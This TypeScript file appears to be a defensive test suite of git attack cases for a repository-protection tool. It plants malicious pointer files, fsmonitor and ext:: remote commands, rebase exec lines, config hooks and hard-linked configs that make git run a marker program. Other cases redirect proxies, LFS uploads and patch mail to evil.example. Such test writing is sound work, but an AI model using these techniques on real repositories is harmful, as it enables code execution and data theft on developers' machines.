// Attacks: files that git reads in another way than this program might, and settings whose danger is not in their name.

import { type Attack, inGroup, type Scene, text, there } from "./types.ts";

/** What the person's git would run, told by a file it makes outside. */
const trap = ({ root }: Scene) => `${root}/outside/PWNED`;
const sprung = (scene: Scene) => there(trap(scene));
const program = (scene: Scene) => `printf '#!/bin/sh\\ntouch ${trap(scene)}\\n' > evil; chmod +x evil`;
const COMMIT = "git -c user.name=a -c user.email=a@example.org commit -q --allow-empty -m x";
const config = ({ project }: Scene) =>
  `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = ${project}/evil\\n'`;

/** Makes the folder a git folder whose configuration names a monitor. */
const gitFolder = (scene: Scene, folder: string) =>
  `mkdir -p ${folder}; cp -r .git/HEAD .git/objects .git/refs ${folder}; ${config(scene)} > ${folder}/config`;

/** A worktree whose `commondir` has this text, for printf; git takes the folder for the common one. */
const commonFolder = (written: string, folder: string): Pick<Attack, "shell" | "person"> => ({
  shell: (scene) =>
    `${program(scene)}; ${COMMIT}; git worktree add -q wt; ${
      gitFolder(scene, folder)
    }; printf '${written}' > ` +
    ".git/worktrees/wt/commondir",
  person: () => "cd wt && git status",
});

/** A new folder whose `.git` is a file with this text, for printf; git takes `folder` for the git folder. */
const gitFile = (written: string, folder: string): Pick<Attack, "shell" | "person"> => ({
  shell: (scene) =>
    `${program(scene)}; ${COMMIT}; ${gitFolder(scene, folder)}; mkdir sub; printf '${written}' > sub/.git`,
  person: () => "cd sub && git status",
});

/** More line feeds than this program reads of such a file; git ignores those at the end. */
const MANY_LINES = "\\n".repeat(5000);

const pointers = inGroup(
  "git pointers",
  ([
    {
      name: "a common folder whose name goes on in the next line",
      ...commonFolder("../..\\nx\\n", `.git/worktrees/"$(printf '..\\nx')"`),
    },
    {
      name: "a common folder whose name ends with a blank",
      ...commonFolder("../.. \\n", ".git/worktrees/'.. '"),
    },
    {
      name: "a common folder whose name ends with a tab",
      ...commonFolder("../..\\t\\n", `.git/worktrees/"$(printf '..\\t')"`),
    },
    {
      name: "a common folder whose name begins with a blank",
      ...commonFolder(" /../../x\\n", ".git/x; mkdir -p '.git/worktrees/wt/ '"),
    },
    {
      name: "a common folder followed by thousands of line feeds",
      ...commonFolder(`../../x${MANY_LINES}`, ".git/x"),
    },
    {
      name: "a common folder whose line ends with carriage returns",
      ...commonFolder("../../x\\r\\r\\n", ".git/x"),
    },
    {
      name: "a common folder behind a line separator of Unicode",
      ...commonFolder("../..\\342\\200\\250\\n", `.git/worktrees/"$(printf '..\\342\\200\\250')"`),
    },
    {
      name: "a git file whose folder ends with a blank, inside .git",
      ...gitFile("gitdir: ../.git/x \\n", ".git/'x '"),
    },
    {
      name: "a git file followed by thousands of line feeds",
      ...gitFile(`gitdir: ../.git/x${MANY_LINES}`, ".git/x"),
    },
    {
      name: "a git file whose folder goes on in the next line",
      ...gitFile("gitdir: ../.git/x\\ny\\n", `.git/"$(printf 'x\\ny')"`),
    },
    {
      name: "a git file whose folder has a line separator of Unicode in its name",
      ...gitFile("gitdir: ../.git/x\\342\\200\\250y\\n", `.git/"$(printf 'x\\342\\200\\250y')"`),
    },
    {
      name: "a git file whose folder is not text",
      ...gitFile("gitdir: ../.git/x\\377y\\n", `.git/"$(printf 'x\\377y')"`),
    },
    {
      name: "a common folder whose name is not text",
      ...commonFolder("../../x\\377y\\n", `.git/"$(printf 'x\\377y')"`),
    },
    {
      name: "a link in place of a git folder, to a folder inside .git",
      shell: (scene) =>
        `${program(scene)}; ${COMMIT}; ${gitFolder(scene, ".git/x")}; mkdir sub; ln -s ../.git/x sub/.git`,
      person: () => "cd sub && git status",
    },
    {
      name: "a link to a git file, and that to a folder inside .git",
      shell: (scene) =>
        `${program(scene)}; ${COMMIT}; ${
          gitFolder(scene, ".git/x")
        }; mkdir sub; echo 'gitdir: ../.git/x' > file; ln -s ../file sub/.git`,
      person: () => "cd sub && git status",
    },
    {
      name: "a worktree whose git folder is complete and has its own configuration",
      shell: (scene) =>
        `${program(scene)}; ${COMMIT}; ${
          gitFolder(scene, ".git/worktrees/w")
        }; mkdir sub; echo 'gitdir: ../.git/worktrees/w' > sub/.git`,
      person: () => "cd sub && git status",
    },
    ...["target", "node_modules", ".venv", "__pycache__"].flatMap((folder) => [{
      name: `a bare repository in ${folder}, which is not searched`,
      shell: (scene: Scene) =>
        `${program(scene)}; ${COMMIT}; ${gitFolder(scene, folder)}; git -C ${folder} config core.worktree ..`,
      person: () => `cd ${folder} && git status`,
    }, {
      name: `a repository in ${folder}, which is not searched`,
      shell: (scene: Scene) => `${program(scene)}; ${COMMIT}; ${gitFolder(scene, `${folder}/.git`)}`,
      person: () => `cd ${folder} && git status`,
    }]),
  ] satisfies Omit<Attack, "group" | "won">[]).map((attack) => ({ ...attack, won: sprung })),
);

/** Writes settings into the configuration, given as a format for printf. */
const setting = (written: string) => (scene: Scene): string =>
  `${program(scene)}; for i in 1 2 3; do echo $i > f$i; git add f$i; ${COMMIT}; done; ` +
  `printf '${written.replaceAll("EVIL", `${scene.project}/evil`)}' >> .git/config`;
const EVERYTHING = "git status; git fetch --all; git pull; git log -1; git diff; true";

const settings = inGroup(
  "git settings",
  ([
    {
      name: "a format of rebase steps that has a line with a command",
      shell: (scene) =>
        `${
          setting(`[rebase]\\n\\tinstructionFormat = %%s%%nexec touch ${trap(scene)}\\n`)(scene)
        }; git checkout -qb x HEAD~1; echo x > f4; git add f4; ${COMMIT}`,
      person: () => "git -c user.name=a -c user.email=a@b rebase @{-1}",
    },
    {
      name: "a format of rebase steps that is the whole message",
      shell: (scene) =>
        `${
          setting("[rebase]\\n\\tinstructionFormat = %%B\\n")(scene)
        }; git checkout -qb x HEAD~1; echo x > f4; git add f4; git -c user.name=a -c user.email=a@b commit -qm a -m 'exec touch ${
          trap(scene)
        }'`,
      person: () => "git -c user.name=a -c user.email=a@b rebase @{-1}",
    },
    {
      name: "a byte order mark and carriage returns",
      shell: setting("\\r\\n[core]\\r\\n\\tfsmonitor = EVIL\\r\\n"),
    },
    { name: "other letter cases", shell: setting("[CoRe]\\n\\tFSMonitor = EVIL\\n") },
    { name: "a section and a setting on one line", shell: setting("[core] fsmonitor = EVIL\\n") },
    {
      name: "a value in pieces of quotes",
      shell: setting('[core]\\n\\tfsmonitor = "EV"IL""\\n'.replace('"EV"IL""', '""EVIL""')),
    },
    { name: "a value over two lines", shell: setting("[core]\\n\\tfsmonitor = \\\\\\nEVIL\\n") },
    { name: "a section without its own line feed before", shell: setting("[core]fsmonitor=EVIL") },
    {
      name: "a comment longer than what is read of a configuration",
      shell: (scene) =>
        `${program(scene)}; { printf '#'; head -c 70000 /dev/zero | tr '\\0' x; echo; ${
          config(scene)
        }; } > c; cat c >> .git/config`,
    },
    {
      name: "a NUL character between settings",
      shell: setting("[user]\\n\\tname = a\\0\\n[core]\\n\\tfsmonitor = EVIL\\n"),
    },
    {
      name: "an included file under a condition, in capitals",
      shell: (scene) =>
        `${program(scene)}; ${
          config(scene)
        } > conf; printf '[INCLUDEIF "gitdir:**"]\\n\\tPATH = ../conf\\n' >> .git/config`,
    },
    {
      name: "an included file under the condition of a remote",
      shell: (scene) =>
        `${program(scene)}; ${
          config(scene)
        } > conf; printf '[remote "o"]\\n\\turl = x\\n[includeIf "hasconfig:remote.*.url:**"]\\n\\tpath = ../conf\\n' >> .git/config`,
    },
    {
      name: "a filter in a section of the old form",
      shell: (scene) =>
        `${
          setting("[filter.a.b]\\n\\tclean = EVIL\\n")(scene)
        }; echo '* filter=a.b' > .gitattributes; echo a > a`,
      person: () => "git add a",
    },
    {
      name: "a filter whose name has quotes and a bracket",
      shell: (scene) =>
        `${
          setting('[filter "a\\\\"]b"]\\n\\tclean = EVIL\\n')(scene)
        }; echo '* filter=a\\"]b' > .gitattributes; echo a > a`,
      person: () => "git add a",
    },
    {
      name: "a new remote whose address, program or helper is a command",
      shell: (scene) =>
        `${
          setting(
            '[remote "a"]\\n\\turl = ext::EVIL\\n[remote "b"]\\n\\turl = .\\n\\tuploadpack = EVIL\\n[remote "c"]\\n\\turl = x\\n\\tvcs = ext\\n' +
              '[remote "d"]\\n\\turl = --upload-pack=EVIL\\n[protocol "ext"]\\n\\tallow = always\\n[protocol]\\n\\tallow = always\\n',
          )(scene)
        }`,
      person: () => EVERYTHING,
    },
    {
      name: "a new remote whose second address is a command",
      shell: setting(
        '[remote "a"]\\n\\turl = .\\n\\tpushurl = ext::EVIL\\n\\turl = ext::EVIL\\n[protocol]\\n\\tallow = always\\n',
      ),
      person: () => `${EVERYTHING}; git push a HEAD`,
    },
    {
      name: "an address that is rewritten to a command",
      shell: setting(
        '[remote "a"]\\n\\turl = https://example.org/x\\n[url "ext::EVIL "]\\n\\tinsteadOf = https://example.org/\\n[protocol]\\n\\tallow = always\\n',
      ),
      person: () => EVERYTHING,
    },
    {
      name: "a new submodule that is updated by a command",
      shell: setting('[submodule "s"]\\n\\tupdate = "!EVIL"\\n\\turl = ./.\\n\\tactive = true\\n'),
      person: () => "git submodule update --init",
    },
    {
      name: "a hook in the configuration",
      shell: setting('[hook "x"]\\n\\tevent = pre-commit\\n\\tcommand = EVIL\\n'),
      person: () => COMMIT,
    },
    {
      name: "a configuration of the worktree, switched on",
      shell: (scene) =>
        `${
          program(scene)
        }; git config core.repositoryformatversion 1; git config extensions.worktreeConfig true; ${
          config(scene)
        } > .git/config.worktree`,
    },
    {
      name: "a configuration that is a link, and one that is a pipe for a moment",
      shell: (scene) =>
        `${program(scene)}; ${
          config(scene)
        } > conf; rm .git/config; ln -s ../conf .git/config; mkfifo .git/config.worktree`,
    },
    {
      name: "a configuration in the name of an existing lock",
      shell: (scene) =>
        `${program(scene)}; ${config(scene)} > .git/config.lock; cp .git/config.lock .git/config`,
    },
    {
      name: "write to a hard link of the configuration",
      shell: () => "ln .git/config notes.txt",
      calls: ({ project }) => [["write", {
        path: "notes.txt",
        content: `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch ${project}/../outside/PWNED;:\n`,
      }]],
    },
    {
      name: "edit of a hard link of the configuration",
      shell: () => "ln .git/config notes.txt",
      calls: ({ project }) => [["edit", {
        path: "notes.txt",
        oldText: "[core]\n",
        newText: `[core]\n\tfsmonitor = touch ${project}/../outside/PWNED;:\n`,
      }]],
    },
    {
      name: "write to a file of which the configuration became a hard link",
      shell: () => "cp .git/config notes.txt; ln -f notes.txt .git/config",
      calls: ({ project }) => [["write", {
        path: "notes.txt",
        content: `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch ${project}/../outside/PWNED;:\n`,
      }]],
    },
    {
      name: "write to a hard link of the configuration, in the next run",
      shell: () => "ln .git/config notes.txt",
      nextRun: () => "true",
      calls: ({ project }) => [["write", {
        path: "notes.txt",
        content: `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch ${project}/../outside/PWNED;:\n`,
      }]],
    },
  ] satisfies Omit<Attack, "group" | "won">[]).map((attack) => ({
    person: () => "git status",
    ...attack,
    won: sprung,
  })),
);

/** Settings that lead git elsewhere, or name a script: the repository must not keep them. */
const leads = inGroup(
  "git settings",
  ([
    [
      "the tool for differences, by a path to a script that git reads",
      "[diff]\\n\\ttool = ../../evil.example\\n",
    ],
    ["the graphical tool for differences, by a path", "[diff]\\n\\tguitool = ../../evil.example\\n"],
    [
      "the tool for merges, by a path to a script that git reads",
      "[merge]\\n\\ttool = ../../evil.example\\n",
    ],
    ["the graphical tool for merges, by a path", "[merge]\\n\\tguitool = ../../evil.example\\n"],
    ["an address to which git lfs sends files", "[lfs]\\n\\turl = https://evil.example/x\\n"],
    [
      "a recipient of patches",
      "[sendemail]\\n\\tbcc = me@evil.example\\n[format]\\n\\tto = me@evil.example\\n",
    ],
    ["a mail server for patches", "[imap]\\n\\thost = imaps://evil.example\\n"],
    ["an address of bundles that git fetches first", "[fetch]\\n\\tbundleURI = https://evil.example/x\\n"],
    ["a server for every address", '[url "https://evil.example/"]\\n\\tinsteadOf = https://\\n'],
    ["a proxy", "[http]\\n\\tproxy = http://evil.example\\n[core]\\n\\tgitProxy = evil.example\\n"],
    [
      "the program that computes the cost of a new remote",
      '[remote "a"]\\n\\turl = x\\n\\tannex-cost-command = evil.example\\n',
    ],
    ["the shell of a remote for large files", '[remote "a"]\\n\\turl = x\\n\\tannex-shell = evil.example\\n'],
    ["a remote as the default for pushes", "[remote]\\n\\tpushDefault = evil.example\\n"],
  ] as const).map(([name, written]) => ({
    name,
    shell: () => `printf '${written}' >> .git/config`,
    won: ({ project }: Scene) => text(`${project}/.git/config`)?.includes("evil.example") !== false,
  })),
);

export const GIT_READERS: readonly Attack[] = [...pointers, ...settings, ...leads];
